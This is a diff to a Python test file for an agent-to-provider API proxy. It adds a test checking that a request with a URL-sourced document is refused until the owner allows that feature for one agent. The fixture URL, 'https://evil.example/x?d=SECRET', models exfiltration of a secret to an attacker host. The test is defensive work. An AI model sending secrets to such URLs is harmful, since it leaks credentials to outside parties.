@@ -278,7 +278,8 @@ def test_keep_alive_connection_serves_20_requests(start_proxy, upstream):
             conn.request("POST", "/v1/messages?beta=true", body=b"{}", headers=CALLER_AUTH)
             expect = b"message_stop"
         elif i % 3 == 1:
-            conn.request("POST", "/v1/messages/count_tokens", body=f"body-{i}".encode(), headers=CALLER_AUTH)
+            conn.request("POST", "/v1/messages/count_tokens", body=f'{{"note": "body-{i}"}}'.encode(),
+                         headers=CALLER_AUTH)  # the door reads each body (model_body): JSON, as the CLI sends
             expect = f"body-{i}".encode()
         else:
             conn.request("GET", f"/v1/models?i={i}", headers=CALLER_AUTH)
@@ -538,3 +539,21 @@ def test_serve_forever_rescans_on_sighup_and_cleans_up_on_sigterm(make_settings,
     assert proc.returncode == 0, out
     assert not alpha.exists() and not beta.exists()
     assert "alpha POST /v1/messages/count_tokens -> 200" in out and HOST_KEY not in out
+
+
+def test_a_request_that_would_have_the_provider_fetch_is_refused_until_the_owner_allows_it(start_proxy, upstream):
+    """Issue 60, item 4: a URL-sourced document (the agent's URL, a secret in its query) never reaches the
+    provider: a 400 naming the feature, nothing forwarded. Allowed for this one agent, it goes; another
+    agent is still refused."""
+    from nanoclaw.proxy.model_features import change
+    from nanoclaw.proxy.policy_files import policy_root
+    proxy = start_proxy(folders=("alpha", "beta"))
+    doc = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 16, "messages": [{"role": "user", "content": [
+        {"type": "document", "source": {"type": "url", "url": "https://evil.example/x?d=SECRET"}}]}]}).encode()
+    status, _, answer = call(proxy.socket_path("alpha"), body=doc, headers=CALLER_AUTH)
+    assert status == 400 and b"url-source is refused" in answer and upstream.requests == []
+    change(policy_root(proxy.settings), "alpha", "url-source", True, "cli")
+    status, _, answer = call(proxy.socket_path("alpha"), body=doc, headers=CALLER_AUTH)
+    assert status == 200 and [r["body"] for r in upstream.requests] == [doc]
+    status, _, _ = call(proxy.socket_path("beta"), body=doc, headers=CALLER_AUTH)
+    assert status == 400 and len(upstream.requests) == 1
